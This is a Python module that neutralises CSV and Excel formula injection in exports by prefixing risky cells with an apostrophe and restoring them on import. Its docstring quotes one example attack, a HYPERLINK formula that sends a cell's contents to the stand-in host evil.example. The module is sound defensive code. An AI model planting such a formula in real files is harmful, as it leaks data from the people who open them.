"""Exports that cannot carry formulas (CSV/Excel formula injection).

A text cell that starts with ``= + - @`` (or tab / carriage return) would run as a formula when a
spreadsheet opens the file: a product renamed ``=HYPERLINK("http://evil.example/?x="&A2,"点击")``
must reach the admin's download as text. CSV cells get a leading apostrophe (the OWASP advice, and
how Excel itself marks text); XLSX cells are written with the string type. Imports undo the CSV
apostrophe, so a file round-trips to the same text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MARK = "'"


def neutralise(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and _needs_mark(value):
        return MARK + value
    return value


def _needs_mark(text: str) -> bool:
    """Starts with a trigger, or with marks before one (a text that itself looks neutralised gets one
    more mark, so that neutralise/restore are exact inverses)."""
    stripped = text.lstrip(MARK)
    return stripped.startswith(TRIGGERS)


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


def restore(value: Any) -> Any:
    """The inverse of :func:`neutralise` for a CSV cell read back on import."""
    if isinstance(value, str) and value.startswith(MARK) and _needs_mark(value[1:]):
        return value[1:]
    return value


def restore_rows(rows: list[list[Any]]) -> list[list[Any]]:
    return [[restore(v) for v in row] for row in rows]


def text_cells(ws: Any) -> None:
    """After appending rows to an openpyxl sheet: cells openpyxl took for formulas become text."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
